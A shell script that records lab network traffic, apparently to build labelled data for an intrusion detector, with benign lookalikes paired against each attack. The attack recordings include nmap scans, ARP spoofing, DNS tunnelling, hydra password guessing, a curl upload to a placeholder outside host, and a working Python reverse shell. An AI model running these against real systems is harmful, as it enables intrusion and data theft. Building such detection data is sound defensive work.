#!/bin/sh
# Recordings of the tools that everybody knows, and of everyday traffic that looks like them. Sourced by
# script/lab-record-one.sh, which tells what is found here.
# shellcheck disable=SC2016 # shells in a host expand what is in single quotes

# nmap-syn: attack port_scan nmap's half-open scan of 200 ports
record_nmap_syn() {
    attacker nmap -n -Pn -sS -p 1-200 "$VICTIM"
}

# nmap-connect: attack port_scan nmap's scan by whole connections, some of them to open ports
record_nmap_connect() {
    for port in 22 80 443; do victim nc -lk -p "$port" & done
    attacker nmap -n -Pn -sT -F "$VICTIM"
}

# nmap-fin: attack port_scan nmap's FIN scan
record_nmap_fin() {
    attacker nmap -n -Pn -sF -F "$VICTIM"
}

# nmap-ack: attack port_scan nmap's ACK scan, which maps firewalls
record_nmap_ack() {
    attacker nmap -n -Pn -sA -F "$VICTIM"
}

# nmap-udp: attack port_scan nmap's UDP scan of 60 ports
record_nmap_udp() {
    attacker nmap -n -Pn -sU --max-retries 0 -T5 -p 1-60 "$VICTIM"
}

# nmap-ipv6: attack port_scan nmap's half-open scan over IPv6
record_nmap_ipv6() {
    attacker nmap -6 -n -Pn -sS -F "$VICTIM6"
}

# nmap-arp-sweep: attack port_scan who is there, asked of a whole network by ARP
record_nmap_arp_sweep() {
    attacker nmap -n -sn -PR 10.77.0.0/24
}

# hping-scan: attack port_scan hping3's scan of 100 ports
record_hping_scan() {
    attacker hping3 -q -I lab0 -S --scan 1-100 "$VICTIM"
}

# traceroute: benign port_scan the way to a host over UDP and over TCP
record_traceroute() {
    attacker traceroute -n -m 12 -w 1 203.0.113.9
    attacker traceroute -n -T -m 4 -w 1 "$VICTIM"
    attacker traceroute -n -m 4 -w 1 "$VICTIM"
}

# tftp: benign port_scan thirty small files by TFTP, each answered from a port of its own
record_tftp() {
    victim python3 -c '
import socket
def udp(port):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind(("", port))
    one.settimeout(20)
    return one
server = udp(69)
while True:
    _, client = server.recvfrom(600)
    with udp(0) as transfer:
        transfer.sendto(b"\0\3\0\1" + b"x" * 100, client)
        transfer.recvfrom(600)
' &
    sleep 1
    for _ in $(seq 1 30); do
        attacker curl -s --max-time 2 --tftp-no-options -o "$SCRATCH/got" "tftp://$VICTIM/file"
    done
}

# monitoring: benign port_scan a monitor that looks every two seconds whether six services are up
record_monitoring() {
    for port in 22 25 80 443 993 3306; do victim nc -lk -p "$port" & done
    sleep 0.5
    for _ in 1 2 3 4; do
        for port in 22 25 80 443 993 3306; do attacker nc -z -w 1 "$VICTIM" "$port"; done
        attacker ping -q -c 1 -W 1 "$VICTIM"
        sleep 2
    done
}

# resolver: benign port_scan a resolver whose 150 answers go to as many ports
record_resolver() {
    victim timeout 20 python3 -c '
import socket
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flow.bind(("", 53))
while True:
    data, client = flow.recvfrom(512)
    flow.sendto(data[:2] + b"\x81\x80" + data[4:], client)
' &
    sleep 1
    attacker sh -c 'for n in $(seq 1 150); do
        dig +tries=1 +time=1 +noedns @"$VICTIM" "host$n.example.org" >/dev/null
    done'
}

# arpspoof-gateway: attack arp_spoofing arpspoof tells a host that the gateway is elsewhere
record_arpspoof_gateway() {
    victim ping -q -c 2 "$BYSTANDER"
    attacker timeout 8 arpspoof -i lab0 -t "$VICTIM" "$BYSTANDER"
}

# arpspoof-both: attack arp_spoofing arpspoof between two hosts, in both directions
record_arpspoof_both() {
    victim ping -q -i 0.5 -c 20 "$BYSTANDER" &
    sleep 1
    attacker timeout 8 arpspoof -i lab0 -r -t "$VICTIM" "$BYSTANDER"
    wait
}

# card-replaced: benign arp_spoofing a host gets another network card, and tells so once
record_card_replaced() {
    victim ping -q -c 2 "$BYSTANDER"
    bystander ip link set lab0 down
    bystander ip link set lab0 address 02:00:5e:77:00:99
    bystander ip link set lab0 up
    sleep 1
    bystander arping -q -U -c 1 -I lab0 "$BYSTANDER"
    victim ping -q -c 5 "$BYSTANDER"
}

# address-check: benign arp_spoofing hosts that ask whether an address is free before they take it
record_address_check() {
    for last in 101 102 103; do
        attacker arping -q -D -c 2 -w 2 -I lab0 "10.77.0.$last"
        attacker ip address add "10.77.0.$last/24" dev lab0
        attacker arping -q -U -c 1 -I lab0 "10.77.0.$last"
    done
}

# iodine: attack dns_tunnelling an iodine tunnel, with pings through it
# needs: iodine iodine
record_iodine() {
    attacker iodined -f -c -P secret 10.99.0.1 tunnel.example.org &
    sleep 1
    victim iodine -f -r -P secret "$ATTACKER" tunnel.example.org &
    sleep 5
    victim ping -q -c 20 -i 0.2 -s 400 10.99.0.1
}

# dig-long-names: attack dns_tunnelling data in names, sixty queries of a script
record_dig_long_names() {
    victim sh -c 'for n in $(seq 1 60); do
        data=$(head -c 90 /dev/urandom | base64 -w 60 | tr -d "=" | tr "+/\n" "xy.")
        dig +tries=1 +time=1 @"$ATTACKER" "${data%.}.t.example.org" >/dev/null &
    done; wait'
}

# reverse-look-ups: benign dns_tunnelling a mail server looks up who connects, by IPv4 and IPv6
record_reverse_look_ups() {
    attacker timeout 20 python3 -c '
import socket
flow = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flow.bind(("", 53))
while True:
    data, client = flow.recvfrom(512)
    flow.sendto(data[:2] + b"\x81\x83" + data[4:], client)
' &
    sleep 1
    victim sh -c 'for n in $(seq 1 40); do
        dig +tries=1 +time=1 +noedns @"$ATTACKER" -x "198.51.100.$n" >/dev/null
        dig +tries=1 +time=1 +noedns @"$ATTACKER" -x "2001:db8:1234:5678:9abc:def0:1234:$n" >/dev/null
    done'
}

# hydra-ftp: attack brute_force hydra guesses FTP passwords
record_hydra_ftp() {
    victim python3 script/lab-login.py 21 &
    seq 1 60 | sed 's/^/wrong/' >"$SCRATCH/passwords"
    sleep 1
    attacker timeout 30 hydra -I -t 8 -l root -P "$SCRATCH/passwords" "ftp://$VICTIM"
}

# hydra-ssh: attack brute_force hydra guesses SSH passwords of a real server
# needs: sshd openssh-server
record_hydra_ssh() {
    ssh-keygen -q -t ed25519 -N '' -f "$SCRATCH/key"
    mkdir -p /run/sshd
    victim "$(command -v sshd)" -D -f /dev/null -h "$SCRATCH/key" -o UsePAM=no -o PidFile=none -o MaxStartups=100 -p 22 &
    seq 1 60 | sed 's/^/wrong/' >"$SCRATCH/passwords"
    sleep 1
    attacker timeout 45 hydra -I -t 4 -l nobody-here -P "$SCRATCH/passwords" "ssh://$VICTIM"
}

# hydra-http: attack brute_force hydra guesses the password of a web page
record_hydra_http() {
    victim python3 -c '
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Refuse(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401)
        self.send_header("WWW-Authenticate", "Basic realm=\"x\"")
        self.send_header("Content-Length", "0")
        self.end_headers()
ThreadingHTTPServer(("", 80), Refuse).serve_forever()
' &
    seq 1 60 | sed 's/^/wrong/' >"$SCRATCH/passwords"
    sleep 1
    attacker timeout 30 hydra -I -t 8 -l admin -P "$SCRATCH/passwords" "http-get://$VICTIM/private"
}

# web-reload: benign brute_force a browser that fetches a page of sixty parts, six connections at a time
record_web_reload() {
    mkdir "$SCRATCH/web"
    for n in $(seq 1 60); do echo "part $n" >"$SCRATCH/web/$n"; done
    victim python3 -m http.server -d "$SCRATCH/web" 80 &
    sleep 1
    attacker sh -c 'seq 1 60 | xargs -P 6 -I% curl -s -o /dev/null "http://$VICTIM/%"'
}

# ftp-many-files: benign brute_force a client that logs in once for each of forty files, and is let in
record_ftp_many_files() {
    victim python3 -c '
import socketserver
class Welcome(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 ready\r\n")
        for line in iter(lambda: self.rfile.readline(512), b""):
            word = line[:4].strip().upper()
            answers = {b"USER": b"331 password\r\n", b"PASS": b"230 welcome\r\n", b"QUIT": b"221 bye\r\n"}
            self.wfile.write(answers.get(word, b"200 ok\r\n"))
class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
Server(("", 21), Welcome).serve_forever()
' &
    sleep 1
    attacker python3 -c '
import socket, sys, time
for n in range(40):
    with socket.create_connection((sys.argv[1], 21), 2) as client:
        for line in (b"USER backup", b"PASS right", b"TYPE I", b"SIZE %d" % n, b"QUIT"):
            client.recv(512)
            client.sendall(line + b"\r\n")
        client.recv(512)
    time.sleep(0.2)
' "$VICTIM"
}

# curl-upload: attack data_exfiltration curl puts 6 MB somewhere outside
record_curl_upload() {
    head -c 6000000 /dev/zero >"$SCRATCH/secret"
    attacker nc -lk -p 8080 >/dev/null &
    sleep 0.5
    victim curl -s --max-time 8 -H Expect: -T "$SCRATCH/secret" "http://$OUTSIDE:8080/"
}

# download: benign data_exfiltration 6 MB come in from outside
record_download() {
    mkdir "$SCRATCH/web"
    head -c 6000000 /dev/zero >"$SCRATCH/web/file"
    attacker python3 -m http.server -d "$SCRATCH/web" 80 &
    sleep 1
    victim curl -s -o /dev/null "http://$OUTSIDE/file"
}

# backup-inside: benign data_exfiltration 6 MB go to a server of the same site
record_backup_inside() {
    head -c 6000000 /dev/zero >"$SCRATCH/backup"
    bystander nc -lk -p 873 >/dev/null &
    sleep 0.5
    victim nc -N -w 5 "$BYSTANDER" 873 <"$SCRATCH/backup"
}

# reverse-shell: attack suspicious_port a shell that connects to port 4444 outside, and takes commands
record_reverse_shell() {
    (sleep 1; for command in id pwd 'uname -s' 'echo done'; do echo "$command"; sleep 0.5; done) |
        attacker timeout 6 nc -l -p 4444 &
    sleep 0.5
    victim timeout 6 python3 -c '
import socket, subprocess, sys
with socket.create_connection((sys.argv[1], 4444), 2) as line:
    while command := line.recv(512):
        line.sendall(subprocess.run(command, shell=True, capture_output=True).stdout)
' "$OUTSIDE"
    wait
}

# chance-port: benign suspicious_port a web client whose own port happens to be 4444, then 31337
record_chance_port() {
    mkdir "$SCRATCH/web"
    echo hello >"$SCRATCH/web/index.html"
    attacker python3 -m http.server -d "$SCRATCH/web" 80 &
    sleep 1
    for port in 4444 31337 6667; do
        victim curl -s -o /dev/null --local-port "$port" "http://$OUTSIDE/"
    done
}
